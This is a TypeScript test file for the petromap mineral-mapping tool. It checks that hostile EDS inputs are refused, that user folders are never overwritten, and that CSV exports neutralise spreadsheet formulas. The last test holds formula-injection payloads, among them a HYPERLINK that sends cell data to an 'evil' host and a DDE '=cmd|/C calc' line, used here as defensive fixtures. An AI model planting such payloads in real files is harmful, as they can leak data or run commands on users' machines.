/**
 * Issue 12, hostile EDS input: every case of cases-eds.ts runs in a child process and must be
 * refused on purpose (a PetromapError, not a crash) with a clean one-line message, under 512 MiB,
 * writing nothing. Plus the output-folder rule (a user's folder is never replaced), a control that
 * a valid map still imports and that a large real mosaic's header passes, and CSV formula injection.
 */
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { encode } from 'fast-png';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { main as importEdsMain } from '../../lib/cli/import-eds';
import { checkModelFolder, loadModel, saveModel } from '../../lib/classify/model-io-node';
import type { TrainedModel } from '../../lib/classify/model';
import { getTf } from '../../lib/classify/tf-node';
import { decodeRaster } from '../../lib/eds/raster';
import { loadMineralMap } from '../../lib/eds/store-node';
import { isPetromapError } from '../../lib/errors';
import { FOLDER_MARKER } from '../../lib/output-folder-node';
import { modalCsv, toCsv } from '../../lib/report/csv';
import { edsCases, pngWith, timaFolder } from './cases-eds';
import { edsReaderCases } from './cases-eds-readers';
import { expectRefused } from './expect-refused';
import { bytesUnder, isCleanMessage, runCaseInChild, scratch } from './harness';

describe('hostile EDS inputs are refused (child process, peak RSS, nothing written)', () => {
  for (const c of [...edsCases, ...edsReaderCases]) {
    it(`item ${c.item}: ${c.name}`, async () => {
      const s = await scratch('petromap-hostile-eds-');
      try {
        await mkdir(s.input, { recursive: true });
        const input = await c.make(s.input);
        const r = await runCaseInChild(c.kind, input, s.out);
        expectRefused(r, c.expect);
        expect(await bytesUnder(s.out)).toBe(0);
      } finally {
        await s.dispose();
      }
    }, 180_000);
  }

  it('control: a valid colour map and a valid TIMA export import through the same child', async () => {
    const s = await scratch('petromap-hostile-eds-');
    try {
      const eds = join(s.input, 'eds');
      await mkdir(eds, { recursive: true });
      await writeFile(join(eds, 'map.png'), encode({ width: 2, height: 1, data: Uint8Array.of(236, 220, 180, 0, 0, 0), channels: 3, depth: 8 }));
      await writeFile(join(eds, 'legend.csv'), 'name,r,g,b\n=HYPERLINK("http://x"),236,220,180\n');
      await writeFile(join(eds, 'pixel.json'), '{"pixelSizeUm": 2}');
      const r = await runCaseInChild('eds', eds, s.out);
      expect(r.error).toBe('');
      expect(r.ok).toBe(true);
      const map = await loadMineralMap(join(s.out, 'map'));
      expect(map.legend.map((p) => p.name)).toEqual(['=HYPERLINK("http://x")']);
      expect(existsSync(join(s.out, 'map', FOLDER_MARKER))).toBe(true);
      const tima = await timaFolder(join(s.root, 'tima-input'), {
        fields: '<?xml version="1.0"?><F><FieldDir>fields</FieldDir><Field name="A1" x="40" y="0"/><Field name="A2" x="0" y="0"/></F>',
        fieldNames: ['A1', 'A2'],
      });
      const out2 = join(s.root, 'out2');
      const t = await runCaseInChild('tima', tima, out2);
      expect(t.error).toBe('');
      expect(t.ok).toBe(true);
      const m2 = await loadMineralMap(join(out2, 'map'));
      expect([m2.width, m2.height, m2.legend.map((p) => p.name)]).toEqual([8, 4, ['Quartz']]);
    } finally {
      await s.dispose();
    }
  }, 120_000);

  it('a large real mosaic (8000 x 8000 RGB PNG) passes the header checks', async () => {
    // header only: the size checks pass, then fast-png finds no image data
    const err = (await decodeRaster(pngWith(8000, 8000, 2, 8, new Uint8Array(0)), 'EDS map big.png').catch((e: unknown) => e)) as Error;
    expect(err.message).toMatch(/big\.png: the PNG cannot be read/);
    expect(err.message).not.toMatch(/megapixels|memory/);
  });
});

describe('output folders: a folder petromap did not write is never replaced', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'petromap-outdir-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  async function runCli(argv: string[]): Promise<{ code: number; err: string }> {
    let err = '';
    vi.spyOn(process.stdout, 'write').mockImplementation(() => true);
    vi.spyOn(process.stderr, 'write').mockImplementation((s: string | Uint8Array) => ((err += String(s)), true));
    try {
      return { code: await importEdsMain(argv), err };
    } finally {
      vi.restoreAllMocks();
    }
  }

  it('import-eds --out onto a user folder with important.txt refuses, and the file survives', async () => {
    await writeFile(join(dir, 'm.png'), encode({ width: 2, height: 1, data: Uint8Array.of(236, 220, 180, 236, 220, 180), channels: 3, depth: 8 }));
    await writeFile(join(dir, 'legend.csv'), 'Quartz,236,220,180\n');
    const user = join(dir, 'my-results');
    await mkdir(user);
    await writeFile(join(user, 'important.txt'), 'do not lose me');
    const args = [join(dir, 'm.png'), '--legend', join(dir, 'legend.csv'), '--pixel-um', '2'];
    const r = await runCli([...args, '--out', user]);
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/^petromap import-eds: Storing the mineral map: the folder my-results already holds files petromap did not write .*important\.txt.*Choose a new or empty output folder/);
    expect(isCleanMessage(r.err.trim())).toBe(true);
    expect(await readFile(join(user, 'important.txt'), 'utf8')).toBe('do not lose me');
    expect(await readdir(user)).toEqual(['important.txt']);
    // a new folder gets the marker; importing again replaces petromap's own folder; an empty folder is fine
    const out = join(dir, 'store');
    expect((await runCli([...args, '--out', out])).code).toBe(0);
    expect(existsSync(join(out, FOLDER_MARKER))).toBe(true);
    expect((await runCli([...args, '--out', out])).code).toBe(0);
    await mkdir(join(dir, 'empty'));
    expect((await runCli([...args, '--out', join(dir, 'empty')])).code).toBe(0);
    // a file where the folder should go is refused too
    await writeFile(join(dir, 'afile'), 'x');
    expect((await runCli([...args, '--out', join(dir, 'afile')])).err).toMatch(/afile is an existing file/);
    expect((await readdir(dir)).filter((n) => n.includes('.partial-') || n.includes('.old-'))).toEqual([]);
  });

  it('saving a classifier onto a user folder refuses; petromap model folders are replaced', async () => {
    const user = join(dir, 'model-user');
    await mkdir(user);
    await writeFile(join(user, 'important.txt'), 'keep');
    const err = await saveModel(user, {} as TrainedModel).catch((e: unknown) => e);
    expect(isPetromapError(err, 'Conflict')).toBe(true);
    expect((err as Error).message).toMatch(/Saving the classifier: the folder model-user already holds files petromap did not write/);
    expect(await readFile(join(user, 'important.txt'), 'utf8')).toBe('keep');
    await expect(checkModelFolder(user)).rejects.toThrow(/did not write/);

    await getTf();
    const tfl = await import('@tensorflow/tfjs-layers');
    const model = tfl.sequential({ layers: [tfl.layers.dense({ units: 2, inputShape: [1], activation: 'softmax' })] });
    const tm: TrainedModel = { model, classes: [1, 2], mean: Float32Array.of(0), std: Float32Array.of(1), featureNames: ['grey'], hidden: [], history: [], bestEpoch: 0 } as unknown as TrainedModel;
    const mine = join(dir, 'model');
    await saveModel(mine, tm);
    expect((await readdir(mine)).sort()).toEqual([FOLDER_MARKER, 'model.json', 'weights.bin']);
    await saveModel(mine, tm);
    expect((await loadModel(mine)).classes).toEqual([1, 2]);
    await expect(saveModel(user, tm)).rejects.toThrow(/did not write/);
    expect(await readdir(user)).toEqual(['important.txt']);
    model.dispose();
  }, 60_000);
});

describe('report CSVs neutralise spreadsheet formulas from legend names', () => {
  it('prefixes = + - @ tab and CR starts with an apostrophe, keeps numbers', () => {
    const names = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTab', '\rCR', ' =spaced', 'Quartz', 'Fe-oxide'];
    const csv = toCsv(['name', 'value'], names.map((n, i) => [n, -i - 0.5]));
    const cells = csv.trim().split('\r\n').slice(1);
    expect(cells[0]).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")",-0.5`);
    expect(cells[1]).toBe(`'+1+1,-1.5`);
    expect(cells[2]).toBe(`'-2+3,-2.5`);
    expect(cells[3]).toBe(`'@SUM(A1:A9),-3.5`);
    expect(cells[4]).toBe(`'\tTab,-4.5`);
    expect(csv).toContain(`"'\rCR",-5.5`);
    expect(csv).toContain(`' =spaced,-6.5`);
    expect(csv).toContain('\r\nQuartz,-7.5\r\n');
    expect(csv).toContain('\r\nFe-oxide,-8.5\r\n');
    const modal = modalCsv({ rows: [{ class: 1, name: '=cmd|/C calc!A0', voxels: 10, volumePercent: 100 }] } as unknown as Parameters<typeof modalCsv>[0]);
    expect(modal.split('\r\n')[1]).toBe(`1,'=cmd|/C calc!A0,10,100`);
  });
});
